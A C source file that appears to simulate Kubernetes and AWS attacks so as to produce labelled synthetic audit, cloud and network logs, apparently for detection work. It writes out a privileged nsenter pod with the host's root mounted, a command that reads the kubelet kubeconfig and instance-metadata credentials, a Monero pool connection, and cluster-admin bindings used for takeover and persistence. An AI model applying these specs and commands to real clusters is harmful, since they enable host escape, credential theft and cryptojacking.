#include <stdio.h>

#include "base/hash.h"
#include "simulate/attack.h"
#include "simulate/audit.h"
#include "simulate/flow.h"
#include "simulate/kube.h"
#include "simulate/kubectl.h"
#include "simulate/lookup.h"
#include "simulate/robots.h"
#include "simulate/text.h"
#include "simulate/traffic.h"
#include "simulate/trail.h"

#define RBAC "rbac.authorization.k8s.io"

/* One line of an attacker's script. */
struct deed {
	unsigned after_s; /* the deed before */
	const char *verb, *group, *resource, *ns, *name;
	unsigned code;
	const char *body;
	const char *step; /* begins a new step; NULL: goes on */
};

static int64_t
raid(struct world *w, struct cluster *c, const struct kube_user *user,
    int64_t t, const struct deed *deeds)
{
	int step = -1;

	for (const struct deed *d = deeds; d->verb != NULL; d++) {
		t += (int64_t)d->after_s * CIVIL_US_PER_S + 137000;
		if (d->step != NULL)
			step = truth_step(w->truth, d->step);
		audit_call(w, c,
		    &(struct audit_call){ .user = user,
			.time_us = t,
			.verb = d->verb,
			.group = d->group,
			.resource = d->resource,
			.ns = d->ns,
			.name = d->name,
			.query = !strcmp(d->verb, "list") ? "?limit=500" : NULL,
			.code = d->code,
			.body = d->body,
			.step = step });
	}
	truth_name(w->truth, "actors", user->name);
	truth_name(w->truth, "addresses", user->source);
	truth_name(w->truth, "clusters", c->name);
	if (c->account != NULL)
		truth_name(w->truth, "accounts", c->account->id);
	return t;
}

static const struct workload_kind ESCAPE = { .ns = "shop",
	.name = "debug-7f",
	.kind = "Pod",
	.image = "docker.io/library/alpine",
	.replicas = 1 };

#define PRIVILEGED                                                             \
	",\"command\":[\"nsenter\",\"-t\",\"1\",\"-m\",\"-u\",\"-i\",\"-n\","  \
	"\"-p\",\"sh\"],\"securityContext\":{\"privileged\":true},"            \
	"\"volumeMounts\":[{\"name\":\"host\",\"mountPath\":\"/host\"}]"
#define HOST_VOLUME                                                            \
	",\"hostPID\":true,\"hostNetwork\":true,\"volumes\":[{\"name\":"       \
	"\"host\",\"hostPath\":{\"path\":\"/\",\"type\":\"\"}}]"

/* A bare pod made by `user`: the request, then the cluster's reaction. */
static const struct pod *
make_pod(struct world *w, struct cluster *c, const struct kube_user *user,
    const struct workload_kind *kind, const struct kube_birth *birth)
{
	/* Lives as long as the process: pods point to it. */
	static struct workload fake[4];
	struct workload *wl = &fake[c->pod_count % COUNTOF(fake)];
	struct rng r = world_rng(w, kind->name, 5);
	struct pod p = { .node = &c->nodes[rng_below(&r, c->node_count)],
		.workload = wl,
		.from_us = birth->time_us,
		.to_us = INT64_MAX };
	struct buf body = { 0 };
	const struct pod *kept;

	*wl = (struct workload){ .kind = kind, .replicas = 1 };
	(void)snprintf(p.name, sizeof(p.name), "%s", kind->name);
	(void)snprintf(p.image, sizeof(p.image), "%s:latest", kind->image);
	text_uuid_of(p.uid, rng_next(&r), rng_next(&r));
	kept = kube_add_pod(c, &p);
	buf_printf(&body,
	    "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":"
	    "\"%s\",\"namespace\":\"%s\"},\"spec\":{\"containers\":[{\"name\":"
	    "\"%s\",\"image\":\"%s\"%s}],\"serviceAccountName\":\"%s\"%s}}",
	    p.name, birth->ns, p.name, p.image, birth->spec ? birth->spec : "",
	    birth->account, birth->pod_spec ? birth->pod_spec : "");
	audit_call(w, c,
	    &(struct audit_call){ .user = user,
		.time_us = birth->time_us,
		.verb = "create",
		.resource = "pods",
		.ns = birth->ns,
		.name = p.name,
		.code = 201,
		.body = buf_text(&body),
		.answer = buf_text(&body),
		.step = birth->step });
	kube_pod_starts(w, c, kept, birth);
	buf_done(&body);
	return kept;
}

/* The node's own credentials, from the stranger's machine. */
static void
use_node_role(
    struct world *w, const struct node *node, int64_t t, const char *address)
{
	static const struct {
		const char *service, *name;
		bool denied;
	} calls[] = { { "sts", "GetCallerIdentity", false },
		{ "ec2", "DescribeInstances", false },
		{ "ec2", "DescribeSecurityGroups", false },
		{ "s3", "ListBuckets", true },
		{ "secretsmanager", "ListSecrets", true },
		{ "iam", "ListRoles", true },
		{ "ecr", "DescribeRepositories", false },
		{ "ssm", "DescribeParameters", true },
		{ "ec2", "CreateSnapshot", true } };
	struct identity who = robots_node_role(w, node, t);
	int step =
	    truth_step(w->truth, "uses the node's role from outside AWS");

	(void)snprintf(who.address, sizeof(who.address), "%s", address);
	(void)snprintf(who.agent, sizeof(who.agent),
	    "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 command/ec2");
	for (size_t i = 0; i < COUNTOF(calls); i++)
		trail_call(
		    w, &(struct trail_call){ .who = &who,
			   .time_us = t += 19300000,
			   .service = calls[i].service,
			   .name = calls[i].name,
			   .error = calls[i].denied ? "AccessDenied" : NULL,
			   .error_message = "not authorized",
			   .step = step });
	truth_name(w->truth, "actors",
	    "arn:aws:iam::210987654321:role/eks-prod-eu-node");
	truth_name(w->truth, "targets", node->instance);
}

static int64_t
exec_step(struct world *w, struct cluster *c, const struct kubectl_exec *e,
    const char *what)
{
	struct kubectl_exec run = *e;

	run.step = truth_step(w->truth, what);
	kubectl_exec(w, c, &run);
	return e->time_us;
}

void
attack_container_escape(struct world *w)
{
	static const struct deed look[] = {
		{ 0, "create", "authorization.k8s.io",
		    "selfsubjectrulesreviews", NULL, NULL, 201, NULL,
		    "asks what the stolen kubeconfig may do" },
		{ 5, "list", "", "pods", "shop", NULL, 200, NULL, NULL },
		{ 4, "list", "", "secrets", "kube-system", NULL, 403, NULL,
		    NULL },
		{ 6, "list", "", "nodes", NULL, NULL, 403, NULL, NULL },
		{ 0 },
	};
	struct cluster *c = world_eks(w);
	/* One who never uses exec herself, and of another team. */
	const struct person *p = world_person(w, DEVELOPER, 1);
	int64_t t = world_attack_day(w, "container-escape") +
		    2 * CIVIL_US_PER_HOUR + 48 * WORLD_MINUTE;
	struct kube_names names;
	char address[16];
	struct kube_user user;
	const struct pod *web, *debug;
	struct kubectl_exec e = { .user = &user, .ns = "shop" };

	world_stranger_address(address, hash_mix(w->seed, 610));
	user = audit_person(w, c, p, address, &names);
	user.agent = "kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3";
	t = raid(w, c, &user, t, look);
	web = kube_pod(c, "shop/web", t, 0);
	if (web != NULL) {
		e.pod = web->name;
		e.container = "web";
		e.command = "command=sh&command=-c&command=id";
		e.time_us = t + 40 * CIVIL_US_PER_S;
		t = exec_step(w, c, &e, "runs a shell in a pod");
	}
	t += 180 * CIVIL_US_PER_S;
	debug = make_pod(w, c, &user, &ESCAPE,
	    &(struct kube_birth){ .time_us = t,
		.ns = "shop",
		.account = "default",
		.spec = PRIVILEGED,
		.pod_spec = HOST_VOLUME,
		.step = truth_step(w->truth,
		    "makes a privileged pod with the host's file system") });
	truth_name(w->truth, "targets", "shop/debug-7f");
	e.pod = debug->name;
	e.container = debug->name;
	e.command = "command=chroot&command=%2Fhost&command=sh&command=-c&"
		    "command=cat+%2Fvar%2Flib%2Fkubelet%2Fkubeconfig%3B+curl+"
		    "169.254.169.254%2Flatest%2Fmeta-data%2Fiam";
	e.time_us = t + 45 * CIVIL_US_PER_S;
	t = exec_step(w, c, &e, "reads the node's credentials from it");
	use_node_role(w, debug->node, t + 11 * WORLD_MINUTE, address);
}

static const struct workload_kind MINER = { .ns = "data",
	.name = "node-cache",
	.kind = "Deployment",
	.image = "docker.io/kubecache/worker",
	.replicas = 3 };

static void
mine(struct world *w, const struct cluster *c, const struct pod *p,
    const char *pool)
{
	struct rng r = world_rng(w, p->uid, 9);
	int names = truth_step(w->truth, "asks for the pool's address"),
	    flows = truth_step(w->truth, "works for the pool");
	int64_t until = p->from_us + 2 * CIVIL_US_PER_DAY;

	for (int64_t t = p->from_us + 30 * CIVIL_US_PER_S;
	     t < until && t < w->end_us; t += 10 * WORLD_MINUTE) {
		struct flow_talk talk = traffic_outwards(w, c, p, pool, 14444);

		talk.time_us = t + (int64_t)rng_below(&r, 3000000);
		talk.seconds = 590;
		talk.src_port = 40123;
		talk.bytes_out = 18000 + rng_below(&r, 2500);
		talk.bytes_in = 26000 + rng_below(&r, 4000);
		talk.step = flows;
		flow_talk(w, &talk);
		if ((t - p->from_us) / WORLD_MINUTE % 60 < 10)
			lookup_write(w, &(struct lookup){ .cluster = c,
					    .source = p->ip,
					    .instance = p->node->instance,
					    .name = "xmr-eu1.nanopool.org.",
					    .answer = pool,
					    .time_us = t - 300000,
					    .step = names });
	}
}

/* A deployment as its controllers bring it to life; the pods' texts. */
static void
deploy(struct world *w, struct cluster *c, const struct kube_user *user,
    const struct workload_kind *kind, int64_t t)
{
	struct buf body = { 0 };
	static struct workload wl;
	struct kube_birth birth = { .owner_kind = "ReplicaSet",
		.controller = "replicaset-controller",
		.ns = kind->ns,
		.account = "default",
		.step = truth_step(w->truth, "new pods start") };
	char owner[80];

	wl = (struct workload){ .kind = kind, .replicas = kind->replicas };
	buf_printf(&body,
	    "{\"kind\":\"Deployment\",\"apiVersion\":\"apps/v1\",\"metadata\":"
	    "{\"name\":\"%s\",\"namespace\":\"%s\"},\"spec\":{\"replicas\":%u,"
	    "\"template\":{\"metadata\":{\"labels\":{\"app\":\"%s\"}},\"spec\":"
	    "{\"containers\":[{\"name\":\"%s\",\"image\":\"%s:latest\","
	    "\"resources\":{\"limits\":{\"cpu\":\"4\"}}}]}}}}",
	    kind->name, kind->ns, kind->replicas, kind->name, kind->name,
	    kind->image);
	audit_call(w, c,
	    &(struct audit_call){ .user = user,
		.time_us = t,
		.verb = "create",
		.group = "apps",
		.resource = "deployments",
		.ns = kind->ns,
		.name = kind->name,
		.code = 201,
		.body = buf_text(&body),
		.answer = buf_text(&body),
		.step = truth_step(w->truth, "creates a deployment") });
	(void)snprintf(owner, sizeof(owner), "%s-6c9d7bff5d", kind->name);
	birth.owner = owner;
	for (unsigned i = 0; i < kind->replicas; i++) {
		struct rng r = world_rng(w, kind->name, i);
		struct pod p = { .node = &c->nodes[i % c->node_count],
			.workload = &wl,
			.from_us = t + 3 * CIVIL_US_PER_S + (int64_t)i * 900000,
			.to_us = INT64_MAX };
		char suffix[8];

		text_suffix(suffix, 5, &r);
		(void)snprintf(p.name, sizeof(p.name), "%s-%s", owner, suffix);
		(void)snprintf(
		    p.image, sizeof(p.image), "%s:latest", kind->image);
		text_uuid_of(p.uid, rng_next(&r), rng_next(&r));
		birth.time_us = p.from_us;
		kube_pod_starts(w, c, kube_add_pod(c, &p), &birth);
	}
	buf_done(&body);
}

void
attack_cryptominer(struct world *w)
{
	static const struct deed look[] = {
		{ 0, "create", "authorization.k8s.io",
		    "selfsubjectaccessreviews", NULL, NULL, 201, NULL,
		    "tries a pod's stolen token" },
		{ 4, "list", "", "nodes", NULL, NULL, 403, NULL, NULL },
		{ 3, "list", "apps", "deployments", "data", NULL, 200, NULL,
		    NULL },
		{ 0 },
	};
	struct cluster *c = world_eks(w);
	int64_t t = world_attack_day(w, "cryptominer") + 4 * CIVIL_US_PER_HOUR +
		    5 * WORLD_MINUTE;
	struct kube_names names;
	struct kube_user user =
	    audit_service(w, "data", "etl", "python-requests/2.31.0", &names);
	size_t first;
	char address[16], pool[16];

	world_stranger_address(address, hash_mix(w->seed, 611));
	world_stranger_address(pool, hash_mix(w->seed, 612));
	user.source = address;
	t = raid(w, c, &user, t, look);
	first = c->pod_count;
	deploy(w, c, &user, &MINER, t + 70 * CIVIL_US_PER_S);
	truth_name(w->truth, "targets", "data/node-cache");
	truth_name(w->truth, "targets", "xmr-eu1.nanopool.org");
	truth_name(w->truth, "addresses", pool);
	for (size_t i = first; i < c->pod_count; i++)
		mine(w, c, &c->pods[i], pool);
}

#define BINDING(name, role, subject)                                           \
	"{\"kind\":\"ClusterRoleBinding\",\"apiVersion\":\"" RBAC              \
	"/v1\",\"metadata\":{\"name\":\"" name "\"},\"subjects\":[" subject    \
	"],\"roleRef\":{\"apiGroup\":\"" RBAC                                  \
	"\",\"kind\":\"ClusterRole\",\"name\":\"" role "\"}}"

static const struct workload_kind FOOTHOLD = { .ns = "kube-system",
	.name = "kube-helper",
	.kind = "Pod",
	.image = "docker.io/library/ubuntu",
	.replicas = 1 };

void
attack_anonymous_takeover(struct world *w)
{
	static const struct deed mistake[] = {
		{ 0, "create", RBAC, "clusterrolebindings", NULL,
		    "debug-anonymous", 201,
		    BINDING("debug-anonymous", "cluster-admin",
			"{\"kind\":\"User\",\"apiGroup\":\"" RBAC
			"\",\"name\":\"system:anonymous\"}"),
		    "an administrator binds cluster-admin to anonymous" },
		{ 0 },
	};
	static const struct deed steal[] = {
		{ 0, "list", "", "namespaces", NULL, NULL, 200, NULL,
		    "looks around without any name" },
		{ 6, "list", "", "pods", NULL, NULL, 200, NULL, NULL },
		{ 9, "list", "", "secrets", NULL, NULL, 200, NULL,
		    "lists and reads secrets" },
		{ 5, "get", "", "secrets", "factory", "erp-credentials", 200,
		    NULL, NULL },
		{ 3, "get", "", "secrets", "kube-system", "bootstrap-token",
		    200, NULL, NULL },
		{ 0 },
	};
	static const struct deed stay[] = {
		{ 30, "create", RBAC, "clusterrolebindings", NULL,
		    "system-default-admin", 201,
		    BINDING("system-default-admin", "cluster-admin",
			"{\"kind\":\"ServiceAccount\",\"name\":\"default\","
			"\"namespace\":\"kube-system\"}"),
		    "binds cluster-admin to a default service account" },
		{ 45, "delete", "", "events", "kube-system", NULL, 200, NULL,
		    "deletes events" },
		{ 0 },
	};
	struct cluster *c = world_metal(w) ? world_metal(w) : world_eks(w);
	const struct person *p = world_person(w, PLATFORM, 1);
	int64_t t = world_attack_day(w, "anonymous-takeover") +
		    14 * CIVIL_US_PER_HOUR + 31 * WORLD_MINUTE;
	struct kube_names names;
	struct kube_user admin = audit_person(w, c, p, WORLD_OFFICE, &names);
	char address[16];
	struct kube_user nobody = audit_anonymous("curl/8.5.0", address);

	world_stranger_address(address, hash_mix(w->seed, 613));
	t = raid(w, c, &admin, t, mistake);
	t = raid(w, c, &nobody, t + 5 * CIVIL_US_PER_HOUR, steal);
	(void)make_pod(w, c, &nobody, &FOOTHOLD,
	    &(struct kube_birth){ .time_us = t + 40 * CIVIL_US_PER_S,
		.ns = "kube-system",
		.account = "default",
		.step = truth_step(w->truth, "makes a pod") });
	(void)raid(w, c, &nobody, t + 70 * CIVIL_US_PER_S, stay);
}

static const struct workload_kind DRIFTED = { .ns = "payments",
	.name = "api",
	.kind = "Deployment",
	.image = "ghcr.io/fastpay-tools/api",
	.replicas = 2 };

void
attack_image_drift(struct world *w)
{
	static const struct deed swap[] = {
		{ 0, "get", "apps", "deployments", "payments", "api", 200, NULL,
		    "looks at the deployment" },
		{ 33, "patch", "apps", "deployments", "payments", "api", 200,
		    "{\"spec\":{\"template\":{\"spec\":{\"containers\":[{"
		    "\"name\":\"api\",\"image\":"
		    "\"ghcr.io/fastpay-tools/api:latest\"}]}}}}",
		    "swaps its image for one of another registry" },
		{ 0 },
	};
	struct cluster *c = world_eks(w);
	const struct person *p = world_person(w, ANALYST, 0);
	int64_t t = world_attack_day(w, "image-drift") +
		    18 * CIVIL_US_PER_HOUR + 12 * WORLD_MINUTE;
	struct kube_names names;
	struct kube_user user = audit_person(w, c, p, p->home, &names);
	static struct workload wl;
	struct kube_birth birth = { .owner_kind = "ReplicaSet",
		.owner = "api-5d8f6c7b94",
		.controller = "replicaset-controller",
		.ns = "payments",
		.account = "api" };

	t = raid(w, c, &user, t, swap);
	truth_name(w->truth, "targets", "payments/api");
	wl = (struct workload){ .kind = &DRIFTED, .replicas = 2 };
	birth.step = truth_step(w->truth, "pods with the new image start");
	for (unsigned i = 0; i < 2; i++) {
		struct pod new = { .node = &c->nodes[i],
			.workload = &wl,
			.from_us = t + 3 * CIVIL_US_PER_S + (int64_t)i * 900000,
			.to_us = INT64_MAX };
		struct rng r = world_rng(w, "drift", i);
		char suffix[8];

		text_suffix(suffix, 5, &r);
		(void)snprintf(
		    new.name, sizeof(new.name), "api-5d8f6c7b94-%s", suffix);
		(void)snprintf(
		    new.image, sizeof(new.image), "%s:latest", DRIFTED.image);
		text_uuid_of(new.uid, rng_next(&r), rng_next(&r));
		birth.time_us = new.from_us;
		kube_pod_starts(w, c, kube_add_pod(c, &new), &birth);
	}
}

void
attack_public_dashboard(struct world *w)
{
	static const struct deed deeds[] = {
		{ 0, "create", "", "namespaces", NULL, "kubernetes-dashboard",
		    201,
		    "{\"kind\":\"Namespace\",\"apiVersion\":\"v1\",\"metadata\""
		    ":{\"name\":\"kubernetes-dashboard\"}}",
		    "installs the dashboard" },
		{ 4, "create", "", "services", "kubernetes-dashboard",
		    "kubernetes-dashboard", 201,
		    "{\"kind\":\"Service\",\"apiVersion\":\"v1\",\"metadata\":{"
		    "\"name\":\"kubernetes-dashboard\",\"namespace\":"
		    "\"kubernetes-dashboard\",\"labels\":{\"k8s-app\":"
		    "\"kubernetes-dashboard\"}},\"spec\":{\"type\":"
		    "\"LoadBalancer\",\"ports\":[{\"port\":443,\"targetPort\":"
		    "8443,\"protocol\":\"TCP\"}],\"selector\":{\"k8s-app\":"
		    "\"kubernetes-dashboard\"}},\"status\":{\"loadBalancer\":{}"
		    "}}",
		    "publishes it through a load balancer" },
		{ 9, "create", RBAC, "clusterrolebindings", NULL,
		    "kubernetes-dashboard", 201,
		    BINDING("kubernetes-dashboard", "cluster-admin",
			"{\"kind\":\"ServiceAccount\",\"name\":"
			"\"kubernetes-dashboard\",\"namespace\":"
			"\"kubernetes-dashboard\"}"),
		    "makes it administrator" },
		{ 0 },
	};
	struct cluster *c = world_eks(w);
	const struct person *p = world_person(w, PLATFORM, 2);
	struct kube_names names;
	struct kube_user user = audit_person(w, c, p, WORLD_OFFICE, &names);

	truth_name(
	    w->truth, "targets", "kubernetes-dashboard/kubernetes-dashboard");
	(void)raid(w, c, &user,
	    world_attack_day(w, "public-dashboard") + 10 * CIVIL_US_PER_HOUR +
		20 * WORLD_MINUTE,
	    deeds);
}
